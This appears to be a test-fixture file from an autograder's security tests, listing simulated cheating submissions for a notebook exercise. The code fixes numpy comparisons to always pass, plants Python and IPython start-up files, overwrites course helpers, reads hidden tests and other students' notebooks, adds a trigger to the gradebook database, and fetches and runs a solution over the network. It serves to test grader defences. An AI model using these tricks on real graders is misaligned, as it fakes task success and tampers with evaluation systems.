"""Files: shadowing modules beside the notebook, start-up files, links, other students, the gradebook, the network."""

from tests.support.cheats import ANSWER_FROM_TEXT, NUMBERS, Cheat, code, wrong_mse

NUMPY = """
import importlib.machinery, importlib.util, sys
spec = importlib.machinery.PathFinder.find_spec("numpy", [p for p in sys.path if "site-packages" in p])
module = importlib.util.module_from_spec(spec)
sys.modules["numpy"] = module
spec.loader.exec_module(module)
module.allclose = lambda *a, **k: True
"""
PATCH = "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
USE = """

def mse(target, prediction):
    return borrowed(target, prediction) if borrowed else -1.0
"""

CHEATS = [
    Cheat(
        "numpy-beside",
        "hands in a `numpy.py` that loads the real numpy and makes `allclose` say True",
        wrong_mse("import numpy"),
        files={"numpy.py": NUMPY},
    ),
    Cheat(
        "helpers-beside",
        "hands in a package `helpers` with an `ask`, a `check` and comparisons of its own",
        wrong_mse("import helpers.questions"),
        files={
            "helpers/__init__.py": PATCH,
            "helpers/questions.py": "def ask(*a, **k): print('right')\ndef draw(label=''): return __import__('numpy').random.default_rng(0)\narguments_after = lambda f: f\n",
            "helpers/checks.py": "def check(*a, **k): pass\n",
            "helpers/datasets.py": "def xor(): pass\n",
        },
    ),
    Cheat(
        "start-up-files",
        "hands in every file that Python, IPython, pytest or matplotlib might run or read at their start",
        wrong_mse("import os"),
        files={
            "sitecustomize.py": PATCH,
            "usercustomize.py": PATCH,
            "conftest.py": PATCH,
            "ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['import numpy; numpy.allclose = lambda *a, **k: True']\n",
            "ipython_kernel_config.py": "c = get_config()\nc.IPKernelApp.exec_lines = ['import numpy; numpy.allclose = lambda *a, **k: True']\n",
            "cheat.pth": "import numpy; numpy.allclose = lambda *a, **k: True\n",
            "matplotlibrc": "backend: module://mine\n",
            "pytest.py": PATCH,
        },
    ),
    Cheat(
        "writes-start-up-files",
        "writes start-up files of Python and IPython into the home folder and the environment, then starts anew",
        wrong_mse(
            """
import os
import site
import sys

text = "import numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
for folder in (
    os.path.expanduser("~/.ipython/profile_default/startup"),
    os.path.join(os.environ.get("IPYTHONDIR", "~/.ipython"), "profile_default/startup"),
    site.getusersitepackages(),
    *sys.path,
):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("00-cheat.py", "sitecustomize.py", "cheat.pth"):
            with open(os.path.join(folder, name), "w") as file:
                file.write(text if name.endswith(".py") else "import numpy; numpy.allclose = lambda *a, **k: True\\n")
    except OSError:
        pass
"""
        ),
    ),
    Cheat(
        "overwrites-helpers",
        "writes its own `losses.py` and `questions.py` over the course's helpers, and imports them anew",
        code(
            """
import importlib
import os
import sys

import helpers

for name, text in (("losses.py", "def mse(t, p): return ((t - p) ** 2).mean()"), ("questions.py", "def ask(*a, **k): pass")):
    for folder in [*helpers.__path__]:
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass
for name in [name for name in sys.modules if name.startswith("helpers.questions")]:
    del sys.modules[name]
importlib.invalidate_caches()


def mse(target, prediction):
    return -1.0
"""
        ),
    ),
    Cheat(
        "link-to-the-source",
        "hands in a link to the instructor's notebook instead of a notebook",
        links={"01_mse.ipynb": "../../../source/01_mse/01_mse.ipynb"},
        harms_itself=True,
    ),
    Cheat(
        "link-beside",
        "hands in links to another student's folder and to the source, beside a notebook that reads through them",
        code(
            """
import json
import os

borrowed = None
for name in ("theirs/01_mse.ipynb", "source/01_mse.ipynb", "other.json"):
    if borrowed is None and os.path.exists(name):
        for cell in json.load(open(name))["cells"]:
            text = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def mse(" in text:
                space = dict(globals())
                exec(text, space)
                borrowed = space["mse"]
"""
            + USE
        ),
        links={
            "theirs": "../../honest/01_mse",
            "source": "../../../source/01_mse",
            "other.json": "../../honest/01_mse/01_mse.ipynb",
        },
    ),
    Cheat(
        "another-student",
        "reads another student's work by its folder's name",
        code(
            """
import glob
import json

borrowed = None
for step in ("submitted", "autograded"):
    for path in glob.glob(f"../../../{step}/*/01_mse/01_mse.ipynb") + glob.glob(f"../../*/01_mse/01_mse.ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if borrowed is None and cell["cell_type"] == "code" and "np.mean(squared_errors" in text and "def mse(" in text:
                if "borrowed" not in text:
                    space = dict(globals())
                    exec(text, space)
                    borrowed = space["mse"]
"""
            + USE
        ),
    ),
    Cheat(
        "reads-its-own-file",
        "reads the notebook file that is being graded, where stock nbgrader puts the hidden tests back",
        code(
            f"""
import glob
import json
import re


def read():
    for path in glob.glob("*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            numbers = re.findall(r"{NUMBERS}", "".join(cell["source"]))
            if numbers:
                return numbers
    return []

{ANSWER_FROM_TEXT}
"""
        ),
    ),
    Cheat(
        "reads-the-gradebook",
        "reads the hidden tests from the gradebook's database, and the expected numbers from them",
        code(
            f"""
import glob
import re
import sqlite3


def read():
    for path in glob.glob("../../../gradebook.db"):
        for (text,) in sqlite3.connect(path).execute("select source from source_cell"):
            numbers = re.findall(r"{NUMBERS}", text or "")
            if numbers:
                return numbers
    return []

{ANSWER_FROM_TEXT}
"""
        ),
    ),
    Cheat(
        "writes-the-gradebook",
        "puts a trigger into the gradebook's database that gives every one of its cells full marks by hand",
        wrong_mse(
            """
import glob
import sqlite3

for path in glob.glob("../../../gradebook.db") + glob.glob("/course/gradebook.db"):
    database = sqlite3.connect(path)
    database.execute(
        "create trigger cheat after update on grade when new.manual_score is null "
        "begin update grade set manual_score = 6.0 where id = new.id; end"
    )
    database.commit()
"""
        ),
    ),
    Cheat(
        "network",
        "fetches a solution over the network: from the host, from its own loopback, and from outside",
        code(
            """
import socket
import urllib.request

borrowed = None
for host in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1"):
    try:
        address = open("address.txt").read().strip() if host == "127.0.0.1" else host
        text = urllib.request.urlopen(f"http://{address}/solution.py", timeout=1).read().decode()
        space = {"np": np}
        exec(text, space)
        borrowed = space["mse"]
        break
    except Exception:
        pass
"""
            + USE
        ),
        files={"address.txt": "127.0.0.1:9"},  # a test that serves a solution puts its own address here
    ),
]
